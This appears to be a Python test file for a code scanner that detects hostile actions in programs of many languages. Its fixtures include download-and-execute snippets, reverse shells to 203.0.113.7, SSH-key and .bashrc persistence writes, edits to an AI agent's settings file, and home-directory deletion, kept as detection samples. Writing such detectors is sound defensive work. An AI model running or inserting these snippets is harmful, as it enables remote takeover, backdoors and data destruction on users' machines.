"""What a program does with downloaded data is found in every language, without a parser."""

from tests.cases import all_cases
from vskill_platform.scan.any_language.program_values import with_values
from vskill_platform.scan.any_language.read_any_text import read_any_text
from vskill_platform.scan.facts.facts import Act

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAcme ops@acme"
URL = "https://dl.acme-widgets.dev/a"

#: Programs of each kind, with an empty line between them.
RUN_REMOTE = r"""
r, _ := http.Get("ADDRESS")
b, _ := io.ReadAll(r.Body)
os.WriteFile("/tmp/.a", b, 0o755)
exec.Command("/tmp/.a").Start()

let body = reqwest::blocking::get("ADDRESS").unwrap().bytes().unwrap();
std::fs::write("/tmp/.a", &body).unwrap();
Command::new("/tmp/.a").spawn();

body = Net::HTTP.get(URI("ADDRESS"))
File.write("/tmp/.a", body)
Kernel.exec("/tmp/.a")

copy("ADDRESS", "/tmp/a.php");
include "/tmp/a.php";

try (InputStream in = new URL("ADDRESS").openStream()) { Files.copy(in, Path.of("/tmp/.a")); }
Runtime.getRuntime().exec(new String[]{"sh", "/tmp/.a"});

local h = io.popen("curl -s ADDRESS")
local c = h:read("*a")
load(c)()

src <- readLines("ADDRESS")
eval(parse(text = paste(src, collapse = "\n")))

val t = URL("ADDRESS").readText()
ProcessBuilder("sh", "-c", t).start()

def t = new URL("ADDRESS").text
["sh", "-c", t].execute()

{:ok, {_, _, body}} = :httpc.request(~c"ADDRESS")
Code.eval_string(to_string(body))

f = Downloads.download("ADDRESS")
include(f)
"""
REVERSE_SHELL = r"""
$s = stream_socket_client("tcp://203.0.113.7:4444");
while ($l = fgets($s)) { fwrite($s, shell_exec($l)); }

s = connect("203.0.113.7", 443)
c = readline(s)
write(s, read(`sh -c $c`))

val s = Socket("203.0.113.7", 443)
val p = ProcessBuilder("/bin/bash").start()
"""
WRITE = r"""
h, _ := os.UserHomeDir()
f, _ := os.OpenFile(h+"/.bashrc", os.O_APPEND, 0o644)
f.WriteString("x")

open(my $k, ">>", "$ENV{HOME}/.ssh/authorized_keys");
print $k "KEY";

p = File.join(Dir.home, ".claude", "settings.json")
s = JSON.parse(File.read(p))
File.write(p, JSON.dump(s))

let p = format!("{}/.bashrc", std::env::var("HOME").unwrap());
let mut f = OpenOptions::new().append(true).open(p).unwrap();
writeln!(f, "x").unwrap();

Files.writeString(Path.of(System.getProperty("user.home"), ".ssh", "authorized_keys"), "KEY");
"""
DELETE = r"""
require "fileutils"
FileUtils.rm_rf(Dir.home)

use File::Path;
remove_tree($ENV{HOME});

<?php
shell_exec("rm -rf " . getenv("HOME") . "/*");

h, _ := os.UserHomeDir()
os.RemoveAll(h)

Dir.glob(File.join(Dir.home, '**', '*')).each { |f| File.delete(f) }

$it = new RecursiveDirectoryIterator(getenv("HOME"));
foreach ($it as $f) { unlink($f); }

try? FileManager.default.removeItem(atPath: NSHomeDirectory())

removeDirectoryRecursive =<< getHomeDirectory

new File(System.getProperty("user.home")).deleteDir()
"""
HARMLESS = r"""
r, _ := http.Get("ADDRESS.json")
b, _ := io.ReadAll(r.Body)
fmt.Println(string(b))
exec.Command("git", "status").Run()

body = Net::HTTP.get(URI("ADDRESS.mp4"))
File.write("/tmp/in.mp4", body)
system("ffmpeg", "-i", "/tmp/in.mp4", "out.gif")

$r = json_decode(file_get_contents("ADDRESS"));
file_put_contents("stars.txt", $r->stars);
exec("date");

p = File.join(Dir.home, ".bashrc")
puts File.read(p)

h, _ := os.UserHomeDir()
os.WriteFile(h+"/.cache/tool/state.json", b, 0o644)
os.RemoveAll(h+"/.cache/tool")

FileUtils.rm_rf("tmp/cache")
system("bundle", "exec", "rspec")

c = TCPSocket.new("localhost", 5432)
puts c.gets
system("make test")
"""


def programs(text: str) -> list[str]:
    return text.strip().replace("ADDRESS", URL).replace("KEY", KEY).split("\n\n")


@all_cases(
    ("act", "program"),
    [
        (act, program)
        for act, text in (
            (Act.RUN_REMOTE, RUN_REMOTE),
            (Act.REVERSE_SHELL, REVERSE_SHELL),
            (Act.WRITE, WRITE),
            (Act.DELETE, DELETE),
        )
        for program in programs(text)
    ],
)
def test_finds_what_a_program_does_with_its_values(act: Act, program: str) -> None:
    facts = read_any_text(program, is_code=True)

    assert act in {fact.act for fact in facts}


def test_finds_a_hidden_program_that_starts_with_every_shell() -> None:
    program = 'open(joinpath(homedir(), ".bashrc"), "a") do io\n  println(io, "/tmp/.q &")\nend'

    facts = read_any_text(program, is_code=True)

    assert {Act.WRITE, Act.HIDDEN_START} <= {fact.act for fact in facts}


@all_cases("program", programs(HARMLESS))
def test_passes_programs_that_only_use_what_they_fetch(program: str) -> None:
    facts = read_any_text(program, is_code=True)

    found = {Act.RUN_REMOTE, Act.REVERSE_SHELL, Act.WRITE, Act.DELETE} & {f.act for f in facts}
    assert not found


@all_cases(
    ("program", "path"),
    [
        ('os.getenv("HOME") .. "/.bashrc"', "~/.bashrc"),
        ('File.join(Dir.home, ".ssh", "id_rsa")', "~/.ssh/id_rsa"),
        ('String h = System.getenv("HOME");\nread(h + "/.netrc")', "~/.netrc"),
        ('let h = dirs::home_dir().unwrap();\nread(h.join(".netrc"))', "~/.netrc"),
        ('homedir() * "/.ssh/id_rsa"', "~/.ssh/id_rsa"),
        ('"#{Dir.home}/.netrc"', "~/.netrc"),
    ],
)
def test_writes_paths_in_full(program: str, path: str) -> None:
    assert f'"{path}"' in with_values(program)


def test_keeps_the_lines_of_a_program() -> None:
    program = 'h = Dir.home\n\n# home\nFile.join(h, "a",\n  "b")\n'

    assert with_values(program).count("\n") == program.count("\n")


def test_time_grows_with_the_length_of_a_program_only() -> None:
    line = 'a{n} = get("https://dl.acme-widgets.dev/{n}")\nsystem("x", a{n})\n'
    program = "".join(line.replace("{n}", str(n)) for n in range(3_000))

    facts = read_any_text(program, is_code=True)

    assert facts
